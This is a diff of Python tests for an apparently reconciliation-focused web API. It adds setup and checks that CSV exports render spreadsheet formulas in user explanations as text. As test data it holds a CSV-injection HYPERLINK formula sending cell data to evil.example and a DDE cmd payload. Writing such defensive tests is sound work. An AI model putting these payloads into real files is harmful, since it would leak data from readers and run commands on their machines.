@@ -189,13 +189,15 @@ def test_reconciliation_exports_the_table_and_the_manifest_as_csv(personas, read
 
 
 def test_reconciliation_csv_writes_a_formula_in_an_explanation_as_text(personas, ready, api):
+    run_request(personas, ready, start="2022-09-28", end="2022-10-02")
+    deploy(dwd_sql=DOUBLED_SQL)  # numbers that need explaining
     request = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
     malicious = {"2022-10-01": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"details\")",
                  "2022-10-02": "@SUM(1+1)*cmd|' /C calc'!A0"}
     for key, text in malicious.items():
         response = api("alice").post(f"/api/requests/{request.pk}/intervals/{key}/explain/", {"explanation": text},
                                      format="json")
-        assert response.status_code == 200
+        assert response.status_code == 200, response.json()
     lines = list(csv.reader(io.StringIO(api("audrey").get(f"/api/requests/{request.pk}/reconciliation.csv")
                                         .content.decode())))
     header = lines[0]
@@ -318,3 +320,17 @@ def test_a_rollback_after_the_sign_off_is_named_with_what_readers_see_instead(pe
     named = body["manifest"]["exceptions"]["rolled_back"]
     assert [(n["partition_key"], n["run_id"], n["restored_run_id"], n["by"], n["why"]) for n in named] == [
         (day, second_runs[day], good_runs[day], "oscar", "wrong day picked") for day in ("2022-10-01", "2022-10-02")]
+
+
+def test_explaining_an_interval_whose_numbers_match_is_refused_as_for_several(personas, ready, api):
+    """One explanation of a matched row was accepted (and audited) while the same row in
+    a bulk explanation was refused "nothing to explain"; the page offers neither."""
+    request = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
+    reconciliation_compute(actor=None, request_id=request.pk)
+    assert rows_of(request)["2022-10-01"].verdict == Verdict.MATCHED
+    one = api("olivia").post(f"/api/requests/{request.pk}/intervals/2022-10-01/explain/",
+                             {"explanation": "looked at it"}, format="json")
+    assert one.status_code == 400
+    assert "nothing to explain in '2022-10-01'" in one.json()["errors"]["explanation"][0]
+    assert rows_of(request)["2022-10-01"].explanation == ""
+    assert not AuditEvent.objects.filter(action="reconciliation.explain").exists()
